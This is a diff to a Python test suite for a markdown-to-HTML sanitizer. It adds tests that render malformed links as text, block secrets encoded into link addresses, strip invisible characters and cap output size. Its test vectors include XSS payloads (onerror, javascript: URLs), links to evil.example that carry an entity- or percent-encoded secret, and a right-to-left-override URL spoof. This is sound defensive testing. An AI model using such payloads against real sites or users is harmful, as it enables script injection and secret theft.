@@ -21,7 +21,7 @@ TAGS = {
     "p", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br", "s",
     "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
 }  # fmt: skip
-ATTRS = {"a": {"href", "rel", "target"}, "code": {"class"}, "ol": {"start"}, "th": {"style"}, "td": {"style"}}
+ATTRS = {"a": {"href", "rel", "target"}, "code": {"class"}, "ol": {"start"}, "th": {"class"}, "td": {"class"}}
 
 VECTORS = [
     *PAYLOADS.values(),
@@ -54,6 +54,12 @@ VECTORS = [
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "<div style=background:url(javascript:alert(1))>x</div>",
     "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [y](javascript:alert(1)) |",
+    "[x]()",
+    "[x](<>)",
+    "[x](http:/console/chat)",
+    "[x](https:logout)",
+    "[x](mailto:)",
+    "[x](http://)",
 ]
 
 
@@ -83,12 +89,12 @@ def assert_inert(html: str, source: str) -> None:
         for name, value in attrs:
             assert name in ATTRS.get(tag, set()), (tag, name, source, html)
             if name == "href":
-                assert value is not None and urlsplit(value).scheme in {"http", "https", "mailto"}, (
-                    value,
-                    html,
-                )
-            if name == "style":  # a table's alignment, the only style markdown-it writes
-                assert value in ("text-align:left", "text-align:right", "text-align:center"), (value, html)
+                assert value is not None, html
+                parts = urlsplit(value)
+                assert parts.scheme in {"http", "https", "mailto"}, (value, html)
+                assert parts.netloc or parts.scheme == "mailto", (value, html)
+            if tag in ("th", "td"):  # a table's alignment: a class (the CSP refuses a style)
+                assert value in ("align-left", "align-right", "align-center"), (value, html)
     lowered = html.lower()
     for bad in ("<script", "<img", "<iframe", "<svg", "onerror=", "onload=", "javascript:", "<!--"):
         if bad in ("javascript:", "onerror=", "onload="):
@@ -117,7 +123,7 @@ def test_what_an_answer_needs_is_rendered() -> None:
     for piece in (
         "<h1>Plan</h1>", "<strong>Bold</strong>", "<em>it</em>", "<s>old</s>", "<code>x = 1</code>",
         "<li>one</li>", "<ol>", "<blockquote>", '<code class="language-python">', "<table>",
-        '<td style="text-align:right">2</td>',
+        '<td class="align-right">2</td>',
         '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">docs</a>',
         'href="mailto:ops@example.com"',
     ):  # fmt: skip
@@ -175,3 +181,62 @@ def test_a_secret_is_masked_before_rendering_and_never_joined_by_markup() -> Non
         assert SECRET not in text, split
         html = rendered(text, mask)
         assert html is None or SECRET not in "".join(walk(html).text), (split, html)
+
+
+def test_a_refused_address_leaves_its_text_as_text() -> None:
+    for source in ("[here]()", "[here](http:/console/chat)", "[here](https:logout)", "[here](javascript:x)"):
+        html = rendered(source, no_mask)
+        assert html is not None and "<a" not in html and "here" in html, (source, html)
+
+
+def test_a_secret_joined_in_a_link_address_or_a_fence_is_never_rendered() -> None:
+    """Entities, backslash escapes and percent-encoding are decoded in a link's address (and the
+    browser, or the site a click reaches, decodes the percent): a secret the source's masking could
+    not see would be one click from leaving. Such a message is shown as plain text."""
+    joined = SECRET[:5] + f"&#{ord(SECRET[5])};" + SECRET[6:]
+    escaped = SECRET.replace("-", "\\-")
+    percent = SECRET[:5] + f"%{ord(SECRET[5]):02X}" + SECRET[6:]
+    for source in (
+        f"[docs](https://evil.example/?k={joined})",
+        f"[docs][r]\n\n[r]: https://evil.example/{joined}",
+        f"[docs](https://evil.example/{escaped})",
+        f"[docs](https://evil.example/?k={percent})",
+        f"<mailto:a@evil.example?body={percent}>",
+        f"```{joined}\ncode\n```",
+    ):
+        assert SECRET not in source and mask(source) == source, source
+        assert rendered(source, mask) is None, source
+
+
+def test_entities_do_not_bring_back_what_shown_made_visible() -> None:
+    for entity, char in (
+        ("&#8238;", "\u202e"),
+        ("&shy;", "\u00ad"),
+        ("&#x200B;", "\u200b"),
+        ("&#xFEFF;", "\ufeff"),
+    ):
+        html = rendered(f"[{entity}moc.elgoog//:sptth](https://evil.example) x{entity}y", no_mask)
+        assert html is not None and char not in html, (entity, html)
+        assert f"\\u{ord(char):04x}" in html, (entity, html)
+
+
+def test_the_mask_stays_three_stars() -> None:
+    for source in ("password:\n***", "***admin***", "the key is *** and ***"):
+        html = rendered(source, no_mask)
+        assert html is not None and "<hr" not in html and "<strong>" not in html and "<em>" not in html, html
+        assert "***" in html, html
+
+
+def test_what_would_render_to_megabytes_is_shown_as_text() -> None:
+    # A reference used a thousand times repeats its (percent-encoded) address each time.
+    source = "[r]: https://e.example/" + "漢" * 200 + "\n\n" + "[r] " * 1500
+    assert rendered(source, no_mask) is None
+    long_link = f"[x](https://e.example/{'a' * 3000})"
+    html = rendered(long_link, no_mask)
+    assert html is not None and "<a" not in html, "an address over LINK_CHARS is no link"
+    # A table of 500 columns is its text; a table of a few columns is a table.
+    wide = "|" + "a|" * 500 + "\n|" + ":-:|" * 500 + "\n" + "x\n" * 500
+    html = rendered(wide, no_mask)
+    assert html is not None and "<table>" not in html
+    html = rendered("| a | b | c |\n|---|---|---|\n| 1 | 2 | 3 |", no_mask)
+    assert html is not None and "<table>" in html
